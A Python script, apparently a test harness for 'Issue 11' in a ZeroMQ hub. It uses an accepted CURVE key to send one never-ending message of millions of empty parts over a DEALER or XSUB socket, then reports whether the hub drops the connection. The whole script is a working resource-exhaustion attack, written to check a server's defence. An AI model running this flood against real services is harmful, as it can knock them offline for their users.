#!/usr/bin/python3
"""Issue 11, the never-ending message, with Debian's python3-zmq: what any member with an
accepted key can do over CURVE. A DEALER (command port) or an XSUB (feed port: it may send
anything upstream) sends one message of millions of empty parts flagged SNDMORE, holds it
open, and with --end ends it. A socket monitor tells it when the hub cut the connection.

Usage: endless.py --endpoint tcp://[SRC:0;]HOST:PORT --socket dealer|xsub [--parts N]
         [--hold-ms MS] [--end] [--key FILE --server-key Z85]
Prints one JSON line: {"done": true, "partsSent": …, "closedByPeer": …, …}."""
import argparse, json, sys, time
import zmq
import zmq.auth
from zmq.utils.monitor import recv_monitor_message

p = argparse.ArgumentParser()
p.add_argument("--endpoint", required=True)
p.add_argument("--socket", choices=["dealer", "xsub"], default="dealer")
p.add_argument("--parts", type=int, default=4_000_000)
p.add_argument("--batch", type=int, default=20_000)
p.add_argument("--hold-ms", type=int, default=1000)
p.add_argument("--end", action="store_true")
p.add_argument("--flush-ms", type=int, default=15000)
p.add_argument("--key")
p.add_argument("--server-key")
a = p.parse_args()

ctx = zmq.Context()
sock = ctx.socket(zmq.DEALER if a.socket == "dealer" else zmq.XSUB)
sock.linger = 0
if a.key:
    public, secret = zmq.auth.load_certificate(a.key)
    sock.curve_secretkey, sock.curve_publickey, sock.curve_serverkey = secret, public, a.server_key.encode()
mon = sock.get_monitor_socket()
sock.connect(a.endpoint)

seen = {"handshakes": 0, "disconnects": 0, "authFailures": 0}
def poll_monitor():
    while True:
        try:
            ev = recv_monitor_message(mon, zmq.NOBLOCK)
        except zmq.Again:
            return
        e = ev["event"]
        if e == zmq.EVENT_HANDSHAKE_SUCCEEDED:
            seen["handshakes"] += 1
        elif e == zmq.EVENT_DISCONNECTED:
            seen["disconnects"] += 1
        elif e in (zmq.EVENT_HANDSHAKE_FAILED_AUTH, zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL):
            seen["authFailures"] += 1

t0 = time.monotonic()
deadline = t0 + 10
while seen["handshakes"] == 0 and time.monotonic() < deadline:
    poll_monitor()
    time.sleep(0.005)
if seen["handshakes"] == 0:
    print(json.dumps({"done": True, "attack": "endless", "via": "pyzmq", "error": "no handshake", **seen}), flush=True)
    sys.exit(0)

first = json.dumps({"type": "ping", "id": "endless"}).encode() if a.socket == "dealer" else b"\x01#lobby:"
sock.send(first, zmq.SNDMORE)
sent = 0
closed_after = None
while sent < a.parts:
    n = min(a.batch, a.parts - sent)
    for _ in range(n):
        sock.send(b"", zmq.SNDMORE)
    sent += n
    poll_monitor()
    if seen["disconnects"] > 0:
        closed_after = sent
        closed_ms = round((time.monotonic() - t0) * 1000)
        break
sent_ms = round((time.monotonic() - t0) * 1000)
hold_until = time.monotonic() + a.hold_ms / 1000
while time.monotonic() < hold_until and seen["disconnects"] == 0:
    poll_monitor()
    time.sleep(0.01)
if seen["disconnects"] > 0 and closed_after is None:
    closed_after, closed_ms = sent, round((time.monotonic() - t0) * 1000)
ended = False
if a.end and seen["disconnects"] == 0:
    sock.send(b"")
    ended = True
    end_until = time.monotonic() + 0.2
    while time.monotonic() < end_until and seen["disconnects"] == 0:
        poll_monitor()
        time.sleep(0.01)
# Close with a linger: libzmq then keeps sending what is queued (the parts are only queued
# when send() returns) until it is all on the wire, or the deadline passes.
flush_t0 = time.monotonic()
poll_monitor()
sock.close(linger=a.flush_ms)
mon.close(linger=0)
ctx.term()
flush_ms = round((time.monotonic() - flush_t0) * 1000)
result = {"done": True, "attack": "endless", "via": "pyzmq", "port": "command" if a.socket == "dealer" else "feed",
          "partsSent": sent, "sentMs": sent_ms, "closedByPeer": seen["disconnects"] > 0, "ended": ended, "flushMs": flush_ms, **seen}
if closed_after is not None:
    result.update(closedAfterParts=closed_after, closedAfterMs=closed_ms)
print(json.dumps(result), flush=True)
